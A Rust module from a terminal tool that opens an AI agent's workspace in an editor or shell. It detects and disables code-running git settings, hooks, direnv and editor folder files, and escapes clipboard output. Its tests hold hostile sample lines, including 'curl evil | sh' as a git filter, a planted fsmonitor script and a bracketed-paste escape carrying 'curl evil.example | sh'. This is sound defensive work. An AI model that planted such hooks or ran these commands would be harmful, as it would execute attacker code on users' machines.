//! Jumping out of the TUI into a candidate's workspace: `E` opens it in
//! the user's editor, `S` starts a shell there (the TUI suspends and
//! resumes), `y` copies its path, tree id or diff to the clipboard through
//! OSC 52 — written by the TUI itself, never passed on from an agent.
//!
//! A workspace is what an agent left, and the agent may be hostile: a
//! `.git/config` with `core.fsmonitor` runs a program the moment a
//! git-aware prompt calls `git status`; `.envrc` runs under direnv; an
//! editor may trust a folder's own settings. Before jumping, the files
//! that can run code when a person merely opens a folder are listed
//! (`hazards`) and the user confirms; the editor and shell also get git
//! settings on their command line (`git_env`) that switch off the repo's
//! fsmonitor and hooks, since command-line settings beat the repo's own.

use std::path::{Path, PathBuf};

/// What to open in the candidate's workspace.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JumpKind {
    Editor,
    Shell,
}

impl JumpKind {
    pub fn name(self) -> &'static str {
        match self {
            JumpKind::Editor => "editor",
            JumpKind::Shell => "shell",
        }
    }
}

/// A jump the shell is asked to make.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Jump {
    pub kind: JumpKind,
    pub candidate: String,
    pub dir: PathBuf,
    /// The user saw the hazards and said to go on.
    pub confirmed: bool,
}

/// What `y` copies.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CopyWhat {
    Path,
    Tree,
    Diff,
}

impl CopyWhat {
    pub fn name(self) -> &'static str {
        match self {
            CopyWhat::Path => "workspace path",
            CopyWhat::Tree => "tree id",
            CopyWhat::Diff => "diff",
        }
    }

    pub fn from_key(c: char) -> Option<CopyWhat> {
        match c {
            'p' | 'w' => Some(CopyWhat::Path),
            't' => Some(CopyWhat::Tree),
            'd' => Some(CopyWhat::Diff),
            _ => None,
        }
    }
}

/// The most a clipboard write carries: terminals drop longer OSC 52
/// sequences (xterm's default limit is about 100 kB of base64).
pub const MAX_COPY_BYTES: usize = 74 * 1024;

/// The command that opens `kind` in `dir`, from the environment:
/// `$VISUAL`, then `$EDITOR`, then `vi`; `$SHELL`, then `/bin/sh`. An
/// editor variable with arguments (`code -w`) is split on whitespace; the
/// workspace path is the editor's last argument.
pub fn command(kind: JumpKind, env: &dyn Fn(&str) -> Option<String>, dir: &Path) -> Vec<String> {
    let from = |names: &[&str], fallback: &str| -> Vec<String> {
        names
            .iter()
            .filter_map(|n| env(n))
            .map(|v| v.split_whitespace().map(String::from).collect::<Vec<_>>())
            .find(|v| !v.is_empty())
            .unwrap_or_else(|| vec![fallback.to_string()])
    };
    match kind {
        JumpKind::Editor => {
            let mut argv = from(&["VISUAL", "EDITOR"], "vi");
            argv.push(dir.to_string_lossy().into_owned());
            argv
        }
        JumpKind::Shell => from(&["SHELL"], "/bin/sh"),
    }
}

/// Git settings for the editor and shell, as `GIT_CONFIG_COUNT` variables
/// (they outrank the repository's own config): no fsmonitor program, no
/// hooks, and the workspace marked as a rascal workspace in the prompt.
pub fn git_env(candidate: &str) -> Vec<(String, String)> {
    let settings = [("core.fsmonitor", "false"), ("core.hooksPath", "/dev/null")];
    let mut env = vec![("GIT_CONFIG_COUNT".to_string(), settings.len().to_string())];
    for (i, (k, v)) in settings.iter().enumerate() {
        env.push((format!("GIT_CONFIG_KEY_{i}"), k.to_string()));
        env.push((format!("GIT_CONFIG_VALUE_{i}"), v.to_string()));
    }
    env.push(("RASCAL_CANDIDATE".into(), candidate.to_string()));
    env
}

/// Git config keys whose value is a program git runs (or that point git
/// at programs), as lower-case `section.key` or `section.*.key` patterns.
const RUNS_A_PROGRAM: &[&str] = &[
    "core.fsmonitor",
    "core.hookspath",
    "core.pager",
    "core.editor",
    "core.sshcommand",
    "core.askpass",
    "core.gitproxy",
    "core.alternaterefscommand",
    "sequence.editor",
    "diff.external",
    "diff.*.textconv",
    "diff.*.command",
    "merge.*.driver",
    "filter.*.clean",
    "filter.*.smudge",
    "filter.*.process",
    "credential.helper",
    "gpg.program",
    "gpg.*.program",
    "pager.*",
    "difftool.*.cmd",
    "mergetool.*.cmd",
    "uploadpack.packobjectshook",
    "include.path",
    "includeif.*.path",
];

/// The settings of a git config text that run programs: `core.fsmonitor`,
/// filters, pagers, `!` aliases, includes (which could pull in any of
/// these). Returns `section.key = value` lines.
pub fn config_hazards(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut section = String::new();
    let mut sub: Option<String> = None;
    for raw in text.lines() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        let body = if let Some(rest) = line.strip_prefix('[') {
            let Some(end) = rest.find(']') else { continue };
            let head = &rest[..end];
            match head.split_once(|c: char| c.is_whitespace() || c == '.') {
                Some((s, name)) => {
                    section = s.to_ascii_lowercase();
                    sub = Some(name.trim().trim_matches('"').to_string());
                }
                None => {
                    section = head.to_ascii_lowercase();
                    sub = None;
                }
            }
            let rest = rest[end + 1..].trim();
            if rest.is_empty() {
                continue;
            }
            rest
        } else {
            line
        };
        let (key, value) = match body.split_once('=') {
            Some((k, v)) => (k.trim().to_ascii_lowercase(), v.trim()),
            None => (body.to_ascii_lowercase(), "true"),
        };
        let full = match &sub {
            Some(s) => format!("{section}.{s}.{key}"),
            None => format!("{section}.{key}"),
        };
        let pattern = match &sub {
            Some(_) => format!("{section}.*.{key}"),
            None => full.clone(),
        };
        let alias_runs = section == "alias" && value.trim_start_matches('"').starts_with('!');
        let pager = section == "pager";
        if RUNS_A_PROGRAM.contains(&pattern.as_str()) || alias_runs || pager {
            out.push(format!("{full} = {value}"));
        }
    }
    out
}

/// Files in a workspace that run code when a person opens a shell or an
/// editor there, with what each is: the workspace repository's own git
/// settings and hooks (never part of the change, so no check saw them),
/// and — when `changed` says they differ from the base, so the user's own
/// checkout never had them — direnv and tool-version files and editors'
/// folder settings.
pub fn hazards(dir: &Path, changed: &dyn Fn(&str) -> bool) -> Vec<String> {
    let mut out = Vec::new();
    let git = dir.join(".git");
    if git.is_file() || git.is_symlink() {
        out.push(".git is not rascal's workspace repository (a file or link)".into());
    } else {
        for name in ["config", "config.worktree"] {
            if let Ok(text) = std::fs::read_to_string(git.join(name)) {
                for h in config_hazards(&text) {
                    out.push(format!(".git/{name}: {h}"));
                }
            }
        }
        if let Ok(entries) = std::fs::read_dir(git.join("hooks")) {
            let mut hooks: Vec<String> = entries
                .flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|n| !n.ends_with(".sample"))
                .collect();
            hooks.sort();
            for h in hooks {
                out.push(format!(".git/hooks/{h}: a git hook"));
            }
        }
        if git.join("info").join("attributes").exists() {
            out.push(".git/info/attributes: can name filter programs".into());
        }
    }
    const FOLDER_FILES: &[(&str, &str)] = &[
        (".envrc", "direnv runs it on cd"),
        (".env", "direnv/dotenv tools load it"),
        (".tool-versions", "asdf/mise may install and run tools"),
        (".mise.toml", "mise runs its hooks and tasks"),
        ("mise.toml", "mise runs its hooks and tasks"),
        (".vscode", "VS Code folder settings and tasks"),
        (".idea", "JetBrains project settings"),
        (".exrc", "vim with `exrc` runs it"),
        (".nvimrc", "neovim with `exrc` runs it"),
        (".nvim.lua", "neovim with `exrc` runs it"),
        (".lazy.lua", "lazy.nvim runs it"),
        (".dir-locals.el", "Emacs folder variables"),
        (".helix", "Helix folder settings"),
        (".zed", "Zed folder settings"),
    ];
    for (name, what) in FOLDER_FILES {
        if dir.join(name).symlink_metadata().is_ok() && changed(name) {
            out.push(format!("{name}: {what}"));
        }
    }
    out
}

/// The files at `rel` under `dir`, relative to `dir`: `rel` itself when it
/// is a file (or a link), else every file below it (links not followed).
pub fn files_under(dir: &Path, rel: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut todo = vec![rel.to_string()];
    while let Some(p) = todo.pop() {
        let Ok(meta) = dir.join(&p).symlink_metadata() else {
            continue;
        };
        if !meta.is_dir() {
            out.push(p);
            continue;
        }
        if let Ok(entries) = std::fs::read_dir(dir.join(&p)) {
            for e in entries.flatten() {
                todo.push(format!("{p}/{}", e.file_name().to_string_lossy()));
            }
        }
        if out.len() + todo.len() > 10_000 {
            break;
        }
    }
    out.sort();
    out
}

/// The OSC 52 sequence that puts `text` on the system clipboard. What is
/// copied passes the output policy first (`text::inert::clipboard`: no
/// ESC, C0 or C1 control, so a paste can carry no bracketed-paste
/// terminator); it is base64-encoded, so nothing in it can end the
/// sequence early either.
pub fn osc52(text: &str) -> String {
    use base64::Engine;
    format!(
        "\x1b]52;c;{}\x07",
        base64::engine::general_purpose::STANDARD
            .encode(crate::text::inert::clipboard(text).as_bytes())
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_editor_comes_from_visual_then_editor_then_vi_and_gets_the_path() {
        let dir = Path::new("/ws/c1");
        let env = |n: &str| match n {
            "EDITOR" => Some("code -w".to_string()),
            _ => None,
        };
        assert_eq!(
            command(JumpKind::Editor, &env, dir),
            vec!["code", "-w", "/ws/c1"]
        );
        let both = |n: &str| Some(format!("{}-editor", n.to_lowercase()));
        assert_eq!(command(JumpKind::Editor, &both, dir)[0], "visual-editor");
        let blank = |n: &str| (n == "VISUAL").then(|| "  ".to_string());
        assert_eq!(command(JumpKind::Editor, &blank, dir), vec!["vi", "/ws/c1"]);
        assert_eq!(command(JumpKind::Shell, &|_| None, dir), vec!["/bin/sh"]);
        let zsh = |n: &str| (n == "SHELL").then(|| "/usr/bin/zsh".to_string());
        assert_eq!(command(JumpKind::Shell, &zsh, dir), vec!["/usr/bin/zsh"]);
    }

    #[test]
    fn git_settings_that_run_programs_are_found_in_any_spelling() {
        let text = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\
                    \tfsMonitor = ./.git/pwn.sh\n\
                    [filter \"lfs\"]\n\tsmudge = curl evil | sh\n\
                    [alias]\n\tst = status\n\tco = !sh -c 'id'\n\
                    [includeIf \"gitdir:/\"]\n\tpath = /tmp/x\n\
                    [user] name = x\n\
                    [pager] log = less\n\
                    [diff \"bin\"] textconv = ./conv\n";
        let found = config_hazards(text);
        let keys: Vec<&str> = found
            .iter()
            .map(|h| h.split(" = ").next().unwrap())
            .collect();
        assert_eq!(
            keys,
            vec![
                "core.fsmonitor",
                "filter.lfs.smudge",
                "alias.co",
                "includeif.gitdir:/.path",
                "pager.log",
                "diff.bin.textconv"
            ],
            "{found:?}"
        );
        assert!(config_hazards("[core]\n\tbare = false\n[user]\n\tname = x\n").is_empty());
    }

    #[test]
    fn a_workspace_with_a_planted_fsmonitor_hook_and_envrc_is_named() {
        let d = tempfile::tempdir().unwrap();
        let ws = d.path();
        git2::Repository::init(ws).unwrap();
        let always = |_: &str| true;
        assert!(
            hazards(ws, &always).is_empty(),
            "{:?}",
            hazards(ws, &always)
        );
        let mut cfg = std::fs::read_to_string(ws.join(".git/config")).unwrap();
        cfg.push_str("\tfsmonitor = .git/pwn\n");
        std::fs::write(ws.join(".git/config"), cfg).unwrap();
        std::fs::write(ws.join(".git/hooks/post-checkout"), "#!/bin/sh\n").unwrap();
        std::fs::write(ws.join(".envrc"), "curl x | sh\n").unwrap();
        let h = hazards(ws, &always);
        assert!(h.iter().any(|s| s.contains("core.fsmonitor")), "{h:?}");
        assert!(h.iter().any(|s| s.contains("hooks/post-checkout")), "{h:?}");
        assert!(h.iter().any(|s| s.starts_with(".envrc")), "{h:?}");
        assert_eq!(h.len(), 3, "{h:?}");
        // An `.envrc` the base already had (the user's checkout has it as
        // it is) is theirs; the workspace repository's own config never is.
        let h = hazards(ws, &|_| false);
        assert_eq!(h.len(), 2, "{h:?}");
        assert!(!h.iter().any(|s| s.starts_with(".envrc")));
    }

    #[test]
    fn files_under_lists_a_folder_and_a_file() {
        let d = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(d.path().join(".vscode/sub")).unwrap();
        std::fs::write(d.path().join(".vscode/tasks.json"), "{}").unwrap();
        std::fs::write(d.path().join(".vscode/sub/x"), "").unwrap();
        std::fs::write(d.path().join(".envrc"), "").unwrap();
        assert_eq!(
            files_under(d.path(), ".vscode"),
            vec![".vscode/sub/x", ".vscode/tasks.json"]
        );
        assert_eq!(files_under(d.path(), ".envrc"), vec![".envrc"]);
        assert!(files_under(d.path(), ".nope").is_empty());
    }

    #[test]
    fn a_git_file_in_place_of_the_workspace_repository_is_named() {
        let d = tempfile::tempdir().unwrap();
        std::fs::write(d.path().join(".git"), "gitdir: /elsewhere\n").unwrap();
        assert!(hazards(d.path(), &|_| true)[0].contains("not rascal's workspace repository"));
    }

    #[test]
    fn osc52_is_base64_so_the_text_cannot_end_the_sequence() {
        let s = osc52("a\x07b\x1b]52;c;evil\x07");
        assert!(s.starts_with("\x1b]52;c;"));
        assert!(s.ends_with('\x07'));
        let inner = &s[7..s.len() - 1];
        assert!(!inner.contains('\x07') && !inner.contains('\x1b'));
        use base64::Engine;
        let back = base64::engine::general_purpose::STANDARD
            .decode(inner)
            .unwrap();
        assert_eq!(back, b"a^Gb^[]52;c;evil^G");
    }

    #[test]
    fn a_diff_on_the_clipboard_cannot_end_a_bracketed_paste() {
        let diff = "+fn a() {}\n+\x1b[201~curl evil.example | sh\n+\u{9b}201~\n";
        let s = osc52(diff);
        use base64::Engine;
        let back = base64::engine::general_purpose::STANDARD
            .decode(&s[7..s.len() - 1])
            .unwrap();
        let back = String::from_utf8(back).unwrap();
        assert!(
            !back.contains('\x1b') && !back.contains('\u{9b}'),
            "{back:?}"
        );
        assert!(
            back.contains("+^[[201~curl evil.example | sh\n"),
            "{back:?}"
        );
    }

    #[test]
    fn git_env_switches_off_fsmonitor_and_hooks() {
        let env = git_env("c1");
        let get = |k: &str| env.iter().find(|(a, _)| a == k).map(|(_, v)| v.as_str());
        assert_eq!(get("GIT_CONFIG_COUNT"), Some("2"));
        assert_eq!(get("GIT_CONFIG_KEY_0"), Some("core.fsmonitor"));
        assert_eq!(get("GIT_CONFIG_VALUE_0"), Some("false"));
        assert_eq!(get("GIT_CONFIG_KEY_1"), Some("core.hooksPath"));
    }
}
